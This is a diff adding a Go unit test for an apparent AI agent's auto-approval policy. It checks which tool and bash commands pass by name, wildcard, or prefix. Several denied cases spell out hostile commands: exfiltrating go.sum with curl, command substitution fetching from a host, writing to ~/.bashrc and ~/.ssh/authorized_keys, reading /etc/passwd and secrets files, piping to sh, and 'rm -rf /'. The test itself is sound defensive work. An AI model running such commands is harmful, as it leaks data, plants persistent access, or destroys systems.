@@ -0,0 +1,165 @@
+package agent
+
+import "testing"
+
+func TestPolicy_Allows(t *testing.T) {
+	tests := []struct {
+		name     string
+		approve  []string
+		tool     string
+		args     map[string]any
+		expected bool
+	}{
+		{
+			name:     "empty policy denies",
+			tool:     "web_search",
+			expected: false,
+		},
+		{
+			name:     "tool name",
+			approve:  []string{"web_search"},
+			tool:     "web_search",
+			expected: true,
+		},
+		{
+			name:     "other tool",
+			approve:  []string{"web_search"},
+			tool:     "web_fetch",
+			expected: false,
+		},
+		{
+			name:     "wildcard",
+			approve:  []string{"*"},
+			tool:     "web_fetch",
+			expected: true,
+		},
+		{
+			name:     "any bash command",
+			approve:  []string{"bash"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go test ./..."},
+			expected: true,
+		},
+		{
+			name:     "bash prefix match",
+			approve:  []string{"bash:go test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go test ./..."},
+			expected: true,
+		},
+		{
+			name:     "bash prefix mismatch",
+			approve:  []string{"bash:go test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go build ./..."},
+			expected: false,
+		},
+		{
+			name:     "bash prefix ends on a word",
+			approve:  []string{"bash:go test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go testdata/run.sh"},
+			expected: false,
+		},
+		{
+			name:     "bash prefix chained command",
+			approve:  []string{"bash:go test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go test ./... && curl -d @go.sum example.com"},
+			expected: false,
+		},
+		{
+			name:     "bash prefix substitution",
+			approve:  []string{"bash:go test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go test $(curl example.com)"},
+			expected: false,
+		},
+		{
+			name:     "bash prefix output redirection",
+			approve:  []string{"bash:go test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go test ./... > ~/.bashrc"},
+			expected: false,
+		},
+		{
+			name:     "bash prefix append redirection",
+			approve:  []string{"bash:go test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go test ./... >> ~/.ssh/authorized_keys"},
+			expected: false,
+		},
+		{
+			name:     "bash prefix input redirection",
+			approve:  []string{"bash:go test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "go test ./... < /etc/passwd"},
+			expected: false,
+		},
+		{
+			name:     "bash path prefix redirection",
+			approve:  []string{"bash:cat:tools/"},
+			tool:     "bash",
+			args:     map[string]any{"command": "cat tools/file.go > tools/copy.go"},
+			expected: false,
+		},
+		{
+			name:     "bash prefix covers operators",
+			approve:  []string{"bash:make && make test"},
+			tool:     "bash",
+			args:     map[string]any{"command": "make && make test"},
+			expected: true,
+		},
+		{
+			name:     "bash prefix outside cwd",
+			approve:  []string{"bash:cat"},
+			tool:     "bash",
+			args:     map[string]any{"command": "cat ../secrets.txt"},
+			expected: false,
+		},
+		{
+			name:     "bash path prefix",
+			approve:  []string{"bash:cat:tools/"},
+			tool:     "bash",
+			args:     map[string]any{"command": "cat tools/sub/file.go"},
+			expected: true,
+		},
+		{
+			name:     "bash path prefix sibling",
+			approve:  []string{"bash:cat:tools"},
+			tool:     "bash",
+			args:     map[string]any{"command": "cat toolsx/file.go"},
+			expected: false,
+		},
+		{
+			name:     "bash path prefix pipeline",
+			approve:  []string{"bash:cat:tools/"},
+			tool:     "bash",
+			args:     map[string]any{"command": "cat tools/file.go | sh"},
+			expected: false,
+		},
+		{
+			name:     "denied pattern beats wildcard",
+			approve:  []string{"*"},
+			tool:     "bash",
+			args:     map[string]any{"command": "rm -rf /"},
+			expected: false,
+		},
+		{
+			name:     "bash without command",
+			approve:  []string{"bash"},
+			tool:     "bash",
+			args:     map[string]any{},
+			expected: false,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			p := Policy{AutoApprove: tt.approve}
+			if got := p.Allows(tt.tool, tt.args); got != tt.expected {
+				t.Errorf("Allows(%q, %v) = %v, expected %v", tt.tool, tt.args, got, tt.expected)
+			}
+		})
+	}
+}